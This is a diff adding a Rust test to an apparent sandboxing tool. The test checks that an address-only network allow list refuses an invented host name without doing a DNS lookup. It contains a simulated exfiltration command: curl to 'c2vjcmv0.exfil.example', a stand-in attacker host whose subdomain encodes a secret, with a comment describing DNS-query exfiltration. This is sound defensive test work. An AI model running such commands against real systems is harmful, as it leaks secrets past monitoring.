@@ -549,3 +549,52 @@ both!(net_user_forwards_inbound_only_as_listed, |who| {
     let status = sandbox.wait_within(DEADLINE);
     assert!(status.success(), "{status:?}");
 });
+
+both!(an_address_only_allow_list_never_looks_a_name_up, |who| {
+    // A name the payload makes up can carry data out in the DNS query itself
+    // (`<secret>.attacker.example`). With address entries alone, a name is refused
+    // without a lookup. The supervisor runs in a network namespace this test makes (no
+    // route anywhere), so a lookup that does happen fails at once and its reason says so.
+    let dir = Scratch::new("net-no-lookup");
+    let run_in_netns = |allow: &str| {
+        let report = dir.for_anyone(&format!("r-{}.json", allow.len()));
+        let script =
+            "curl -sS -m 10 -o /dev/null -w '%{http_connect}\\n' -p https://c2vjcmv0.exfil.example/";
+        let lasagna = command(
+            who,
+            &[
+                "run", "-p", "strict", "--allow", allow, "--report", &report, "--", "/bin/sh",
+                "-c", script,
+            ],
+        );
+        let mut cmd = Command::new("unshare");
+        cmd.arg("-n")
+            .arg("--")
+            .arg(lasagna.get_program())
+            .args(lasagna.get_args())
+            .envs(lasagna.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
+            .current_dir("/")
+            .process_group(0);
+        let o = output_within(cmd, DEADLINE);
+        let r: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        let reason = r["connections"][0]["reason"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string();
+        (o, reason)
+    };
+    let (o, reason) = run_in_netns("192.0.2.0/24:443");
+    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
+    assert!(
+        reason.contains("address entries cover addresses, not names"),
+        "{reason}"
+    );
+    // Control: a name entry that matches has the name looked up (here it cannot resolve).
+    let (o, reason) = run_in_netns("*.exfil.example:443");
+    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
+    assert!(
+        reason.starts_with("cannot resolve c2vjcmv0.exfil.example"),
+        "{reason}"
+    );
+});
